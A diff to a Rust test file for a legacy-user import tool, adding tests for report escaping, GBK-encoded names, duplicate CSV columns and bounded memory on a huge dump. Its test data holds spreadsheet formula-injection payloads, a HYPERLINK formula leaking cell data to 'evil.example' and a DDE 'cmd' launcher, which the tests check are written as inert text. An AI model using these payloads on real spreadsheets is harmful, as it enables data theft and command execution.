@@ -15,7 +15,10 @@ use crate::worker::{fresh_state_dir, migrated_state_dir, TestWorker};
 
 pub const OWN_TESTS: &[crate::OwnTest] = tests![
     the_original_services_users_move_in_and_log_in_as_before,
-    a_roles_batch_stopped_by_a_guard_is_undone_whole
+    a_roles_batch_stopped_by_a_guard_is_undone_whole,
+    an_import_report_holds_formulas_as_text_and_names_that_are_no_utf8_as_skipped,
+    an_import_of_a_csv_naming_a_column_twice_imports_nothing,
+    an_import_reads_a_dump_on_one_long_line_in_bounded_memory
 ];
 
 const PEPPER: &str = "an-import-test-pepper-of-at-least-32-bytes";
@@ -154,10 +157,15 @@ fn write_dumps(dir: &Path, users: &[Original]) -> Vec<PathBuf> {
 }
 
 fn importer(worker: &TestWorker, files: &[PathBuf], report: &Path) -> Command {
+    importer_on(&worker.state_dir, files, report)
+}
+
+/// The importer on the local D1 in `state_dir`, as `make import` runs it.
+fn importer_on(state_dir: &Path, files: &[PathBuf], report: &Path) -> Command {
     let mut command = Command::new(env!("CARGO_BIN_EXE_login-import"));
     command
         .args(["--config", "build/wrangler.toml", "--persist-to"])
-        .arg(&worker.state_dir)
+        .arg(state_dir)
         .arg("--report")
         .arg(report)
         .args(files)
@@ -279,10 +287,11 @@ fn the_original_services_users_move_in_and_log_in_as_before() {
     assert!(said.contains("users/s") && said.contains("× its floor"), "{said}");
     let listed = std::fs::read_to_string(&report).unwrap();
     let csv = files[3].display();
-    let taken = format!("skipped,users,{csv}:12,311,LEGACY_1,the account is taken by the account at ");
+    let taken =
+        format!(r#""skipped","users","{csv}:12","311","LEGACY_1","the account is taken by the account at "#);
     assert!(listed.contains(&taken), "{listed}");
     let no_number =
-        format!("skipped,users,{csv}:13,312,legacy_312,\"phone \"\"12345\"\" is not a valid number\"");
+        format!(r#""skipped","users","{csv}:13","312","legacy_312","phone ""12345"" is not a valid number""#);
     assert!(listed.contains(&no_number), "{listed}");
     assert!(listed.contains("role 9 (not in the dump)"), "{listed}");
     assert!(!listed.contains(&users[0].md5()), "{listed}");
@@ -388,7 +397,8 @@ fn a_roles_batch_stopped_by_a_guard_is_undone_whole() {
     };
     let roles = "INSERT INTO `roles` VALUES (1,'超级管理员','yes','','','active',NULL,NULL),(2,'默认角色','no','','','active',NULL,NULL);\n\
                  INSERT INTO `users` VALUES (40,'x','fcea920f7412b5da7be0cf42b8c93759','13900000040',0,'others','active',NULL,NULL,'2',NULL,NULL);";
-    let legacy = Legacy::read(&dump::read_sql("roles.sql", roles).unwrap()).unwrap();
+    let mut legacy = Legacy::default();
+    dump::read_sql("roles.sql", roles.as_bytes(), &mut legacy).unwrap();
     let seen = plan::Present {
         users: vec![],
         roles: vec![plan::PresentRole {
@@ -437,4 +447,98 @@ fn a_roles_batch_stopped_by_a_guard_is_undone_whole() {
     assert!(!stopped.status.success(), "{}", text(&stopped));
     let said = text(&stopped);
     assert!(said.contains("would change what the role means") && said.contains("FRESH=1"), "{said}");
+}
+
+/// The report of a dry run over names a spreadsheet would run as formulas, and names
+/// saved in GBK: the formulas are text there, the GBK names skipped rows with their reason.
+fn an_import_report_holds_formulas_as_text_and_names_that_are_no_utf8_as_skipped() {
+    let state = migrated_state_dir();
+    let md5 = LegacyMd5::of("x").as_str().to_string();
+    let mut sql = format!(
+        "INSERT INTO `roles` VALUES (2,'默认角色','no','','','active',NULL,NULL);\n\
+         INSERT INTO users (id, account, password, phone, role_id) VALUES \
+         (1, '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")', '{md5}', '12345', '2'), \
+         (2, '@SUM(A1) x', '{md5}', '13900000002', '2'), (3, '"
+    )
+    .into_bytes();
+    sql.extend(b"\xd5\xc5\xc8\xfd");
+    sql.extend(format!("', '{md5}', '13900000003', '2');\n").as_bytes());
+    let mut csv =
+        format!("id,account,password,phone,role_id\n4,+1+cmd|' /C calc'!A0,{md5},1,2\n5,").into_bytes();
+    csv.extend(b"\xc0\xee\xcb\xc4");
+    csv.extend(format!(",{md5},13900000005,2\n").as_bytes());
+    let (dump, users_csv, report) =
+        (state.join("dump.sql"), state.join("users.csv"), state.join("report.csv"));
+    std::fs::write(&dump, sql).unwrap();
+    std::fs::write(&users_csv, csv).unwrap();
+    let ran =
+        importer_on(&state, &[dump.clone(), users_csv.clone()], &report).arg("--dry-run").output().unwrap();
+    assert!(ran.status.success(), "{}", text(&ran));
+    assert!(text(&ran).contains("Read 1 users and 1 roles (4 rows unreadable)"), "{}", text(&ran));
+    let listed = std::fs::read_to_string(&report).unwrap();
+    let (dump, users_csv) = (dump.display(), users_csv.display());
+    let gbk = "account is not UTF-8 text (was the file saved in another encoding, such as GBK?)";
+    for line in [
+        format!(
+            r#""skipped","users","{dump}:2","1","'=HYPERLINK(""http://evil.example/?""&A1,""x"")","phone ""12345"" is not a valid number""#
+        ),
+        format!(r#""skipped","users","{dump}:2, row 3","3","����","{gbk}""#),
+        format!(
+            r#""skipped","users","{users_csv}:2","4","'+1+cmd|' /C calc'!A0","phone ""1"" is not a valid number""#
+        ),
+        format!(r#""skipped","users","{users_csv}:3","5","����","{gbk}""#),
+        format!(r#""imported","users","{dump}:2, row 2","2","'@SUM(A1) x","#),
+    ] {
+        assert!(listed.contains(&line), "{line}\nnot in\n{listed}");
+    }
+    assert!(!listed.contains(&md5), "{listed}");
+}
+
+/// A CSV file whose header names `account` twice: which column holds the accounts cannot
+/// be told, so the import stops before it writes anything, naming the column.
+fn an_import_of_a_csv_naming_a_column_twice_imports_nothing() {
+    let scratch = fresh_state_dir();
+    let md5 = LegacyMd5::of("x").as_str().to_string();
+    let users = scratch.join("users.csv");
+    let csv = format!("id,account,password,phone,account\n1,alice,{md5},13900000001,mallory\n");
+    std::fs::write(&users, csv).unwrap();
+    let report = scratch.join("report.csv");
+    let stopped = importer_on(&scratch, std::slice::from_ref(&users), &report).output().unwrap();
+    assert!(!stopped.status.success(), "{}", text(&stopped));
+    let expected = format!(
+        "Nothing was imported: {}:1: the column account is named twice, and which of the two holds the account \
+         cannot be told.",
+        users.display()
+    );
+    assert!(text(&stopped).contains(&expected), "{}", text(&stopped));
+    assert!(!report.exists() && !scratch.join("v3").exists(), "nothing written, no database touched");
+}
+
+/// A dump of 10 MB on one line (68,000 users in one extended INSERT, and a last INSERT
+/// that stops the import once all of it is read): read within 200 MB of address space,
+/// where reading the whole line at once took several times that.
+fn an_import_reads_a_dump_on_one_long_line_in_bounded_memory() {
+    let scratch = fresh_state_dir();
+    let md5 = LegacyMd5::of("x").as_str().to_string();
+    let mut line = String::from("INSERT INTO `users` VALUES ");
+    for id in 1..=68_000u64 {
+        let separator = if id == 1 { "" } else { "," };
+        line += &format!(
+            "{separator}({id},'user_{id}','{md5}','139{id:08}',0,'others','active',NULL,NULL,'2','2023-12-04 01:40:33','2023-12-04 01:40:33')"
+        );
+    }
+    line += "; INSERT INTO users (id, account) VALUES (1, 'a');";
+    assert!(line.len() > 10_000_000 && !line.contains('\n'));
+    let dump = scratch.join("one-line.sql");
+    std::fs::write(&dump, line).unwrap();
+    let mut limited = Command::new("sh");
+    limited
+        .args(["-c", "ulimit -v 200000 && exec \"$0\" \"$@\"", env!("CARGO_BIN_EXE_login-import")])
+        .args(["--config", "build/wrangler.toml", "--report"])
+        .arg(scratch.join("report.csv"))
+        .arg(&dump)
+        .current_dir(env!("CARGO_MANIFEST_DIR"));
+    let ran = limited.output().unwrap();
+    assert_eq!(ran.status.code(), Some(1), "{}", text(&ran));
+    assert_eq!(text(&ran).trim(), "Nothing was imported: the users table has no column password, phone.");
 }
